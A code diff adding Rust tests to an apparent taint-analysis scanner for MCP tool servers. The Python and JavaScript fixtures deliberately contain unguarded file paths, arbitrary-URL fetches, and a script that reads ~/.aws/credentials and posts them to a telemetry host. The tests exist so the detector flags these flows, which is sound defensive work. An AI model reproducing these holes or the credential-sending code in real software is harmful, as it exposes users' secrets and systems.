@@ -1891,3 +1891,190 @@ server.tool("status", "Service status", { svc: z.enum(["nginx"]).or(z.string()) 
         .count();
     assert_eq!(open, 1, "{f:#?}");
 }
+
+#[test]
+fn a_helper_reading_one_field_of_a_record_gets_that_fields_guards() {
+    // The caller checks `api_name` and passes a record with it and an unchecked `label`;
+    // the helper reads the record's fields by name (`.get`, `[…]`, JS `opts.x`).
+    let py = r#"
+import os
+from mcp.server import Server
+server = Server("x")
+BASE = "/srv/apps"
+
+@server.call_tool()
+async def handle(name: str, arguments: dict):
+    api_name = arguments.get("api_name")
+    label = arguments.get("label")
+    if not api_name.replace("_", "").isalnum():
+        raise ValueError("bad name")
+    make({"api_name": api_name, "label": label})
+
+def make(obj):
+    api = obj.get("api_name")
+    os.rename(BASE + "/t.xml", f"{BASE}/apps/{api}.xml")
+    other = obj["label"]
+    open(f"{BASE}/labels/{other}.txt", "w").write("x")
+"#;
+    let js = r#"
+const fs = require("fs");
+function write(opts) {
+    fs.writeFileSync("/srv/out/" + opts.name, "x");
+    fs.writeFileSync("/srv/notes/" + opts.note, "x");
+}
+server.tool("save", "save", {}, async ({ name, note }) => {
+    if (!/^[a-z0-9_-]+$/.test(name)) throw new Error("bad");
+    write({ name, note });
+});
+"#;
+    let f = flows(&[("server.py", py), ("index.js", js)]);
+    let open: Vec<(String, u32)> = of_kind(&f, SinkKind::FileAccess)
+        .iter()
+        .filter(|x| !x.guards.any(SinkKind::FileAccess.sanitised_by()))
+        .map(|x| (x.file.clone(), x.line))
+        .collect();
+    assert!(!open.contains(&("server.py".into(), 17)), "{open:?}");
+    assert!(open.contains(&("server.py".into(), 19)), "{open:?}");
+    assert!(!open.contains(&("index.js".into(), 4)), "{open:?}");
+    assert!(open.contains(&("index.js".into(), 5)), "{open:?}");
+}
+
+#[test]
+fn a_low_level_dispatcher_gets_the_declared_schemas_constraints() {
+    // `types.Tool(name=…, inputSchema=SCHEMA)` in a listing module; the dispatcher's
+    // `arguments` for that tool were validated by the SDK against the schema.
+    let defs = r#"
+import mcp.types as types
+APP_SCHEMA = {"type": "object", "properties": {
+    "api_name": {"type": "string", "pattern": "^[A-Za-z0-9_]+$"},
+    "label": {"type": "string"}}}
+OTHER_SCHEMA = APP_SCHEMA
+def get_tools():
+    return [types.Tool(name="create_app", description="Create an app", inputSchema=APP_SCHEMA),
+            types.Tool(name="create_free", description="Create", inputSchema={"type": "object"})]
+"#;
+    let server = r#"
+import os
+from mcp.server import Server
+import defs
+server = Server("x")
+
+@server.list_tools()
+async def list_tools():
+    return defs.get_tools()
+
+@server.call_tool()
+async def handle(name: str, arguments: dict):
+    if name == "create_app":
+        return build(arguments)
+    elif name == "create_free":
+        return build(arguments)
+
+def build(arguments):
+    api_name = arguments.get("api_name")
+    os.makedirs(f"/srv/apps/{api_name}")
+"#;
+    let f = flows(&[("defs.py", defs), ("server.py", server)]);
+    let open: Vec<Option<String>> = of_kind(&f, SinkKind::FileAccess)
+        .iter()
+        .filter(|x| !x.guards.any(SinkKind::FileAccess.sanitised_by()))
+        .map(|x| x.origin.tool.clone())
+        .collect();
+    assert_eq!(open, vec![Some("create_free".to_string())], "{f:#?}");
+}
+
+#[test]
+fn a_client_made_with_a_base_address_keeps_relative_requests_on_its_host() {
+    let py = r#"
+import httpx
+from mcp.server.fastmcp import FastMCP
+mcp = FastMCP("x")
+API = "https://api.example.com/v1/"
+
+class Api:
+    def __init__(self):
+        self.client = httpx.AsyncClient(base_url=API)
+
+    async def issue(self, issue_id):
+        return await self.client.get(f"issues/{issue_id}/")
+
+    async def anything(self, url):
+        return await self.client.get(url)
+
+    async def call(self, path):
+        return await self.client.request("GET", path)
+
+api = Api()
+
+@mcp.tool()
+async def get_item(item: str) -> str:
+    return (await api.call(f"/items/{item}")).text
+
+@mcp.tool()
+async def get_path(path: str) -> str:
+    return (await api.call(path)).text
+
+@mcp.tool()
+async def get_issue(issue_id: str) -> str:
+    return (await api.issue(issue_id)).text
+
+@mcp.tool()
+async def get_any(target: str) -> str:
+    return (await api.anything(target)).text
+"#;
+    let f = flows(&[("server.py", py)]);
+    let mut fetches: Vec<u32> = of_kind(&f, SinkKind::Fetch)
+        .iter()
+        .filter(|x| !x.guards.has(Guards::HOST_FIXED))
+        .map(|x| x.line)
+        .collect();
+    fetches.sort();
+    fetches.dedup();
+    assert_eq!(fetches, vec![15, 18], "{f:#?}");
+    let item = of_kind(&f, SinkKind::Fetch)
+        .into_iter()
+        .filter(|x| x.origin.tool.as_deref() == Some("get_item"))
+        .collect::<Vec<_>>();
+    assert!(
+        !item.is_empty() && item.iter().all(|x| x.guards.has(Guards::HOST_FIXED)),
+        "{f:#?}"
+    );
+}
+
+#[test]
+fn a_secret_stores_name_is_not_its_contents() {
+    // The path of a client's configuration in a log line and a telemetry event is a name;
+    // the file read (here or in a helper given the path) and sent is the contents.
+    let js = r#"
+const fs = require("fs");
+const os = require("os");
+const path = require("path");
+const https = require("https");
+const configPath = path.join(os.homedir(), ".aws", "credentials");
+function logLine(msg) { fs.appendFileSync("/tmp/setup.log", msg); }
+function track(props) {
+    const req = https.request("https://telemetry.example.com/collect", { method: "POST" });
+    req.write(JSON.stringify(props));
+    req.end();
+}
+logLine(`using ${configPath}`);
+track({ path: path.dirname(configPath) });
+function readIt(p) { return fs.readFileSync(p, "utf8"); }
+track({ data: readIt(configPath) });
+"#;
+    let f = flows(&[("setup.js", js)]);
+    let moved: Vec<u32> = f
+        .iter()
+        .filter(|x| {
+            x.origin.kind == OriginKind::LocalSecret
+                && matches!(x.kind, SinkKind::NetworkSend | SinkKind::FileWrite)
+        })
+        .map(|x| x.line)
+        .collect();
+    assert_eq!(moved, vec![10], "{f:#?}");
+    let from_content = f
+        .iter()
+        .filter(|x| x.origin.kind == OriginKind::LocalSecret && x.kind == SinkKind::NetworkSend)
+        .count();
+    assert!(from_content >= 1, "{f:#?}");
+}
